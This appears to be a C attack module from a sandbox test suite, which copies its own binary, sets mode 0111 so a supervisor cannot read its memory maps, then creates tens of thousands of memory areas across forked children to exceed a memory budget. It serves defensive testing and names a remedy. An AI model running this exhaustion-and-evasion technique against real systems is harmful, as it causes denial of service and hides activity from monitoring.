// SPDX-License-Identifier: MIT
/*
 * unreadable-areas.c - areas of an address space that nobody may look at.
 *
 * Goal:  more memory than the budget.
 * Means: as split-areas, but of a program of mode 0111: the kernel makes it not dumpable, and the
 *        supervisor, of the same user, cannot open its /proc/PID/maps to count the areas.
 */
#include "attacks/attack.h"
#include "attacks/landlock-gap/copy.h"

#include <stdio.h>
#include <sys/auxv.h>
#include <sys/mman.h>

enum { AREAS = 64900, CHILDREN = 30 };
#define PAGE 4096l

/* Runs in the copy, before main() is told anything. */
__attribute__((constructor)) static void in_the_copy(void)
{
	char *range;

	if (!getenv("UNREADABLE"))
		return;
	range = mmap(NULL, AREAS * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1,
		     0);
	for (long i = 0; i < AREAS; i += 2)
		mprotect(range + i * PAGE, PAGE, PROT_READ);
	for (int i = 0; i < CHILDREN; i++)
		if (fork() == 0)
			_exit((int)sleep(4));
	sleep(4);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	char name[256];
	pid_t child;
	int copy;

	snprintf(name, sizeof(name), "%s/copy", dir ? dir : "/tmp");
	copy = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
	if (!copy_program((const char *)getauxval(AT_EXECFN), copy) || fchmod(copy, 0111) ||
	    close(copy))
		return failed("copy");
	attempting(b);
	child = fork();
	if (child < 0)
		return denied("fork");
	if (child == 0) {
		setenv("UNREADABLE", "1", 1);
		execl(name, name, NULL);
		_exit(1);
	}
	sleep(4);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "64000 areas in each process of a program of mode 0111, whose maps are closed",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "count the largest number there may be for whom cannot be read; a memory cgroup",
	.refs = (const char *const[]){ "execve(2)", "proc_pid_maps(5)", NULL },
	.run = run,
};
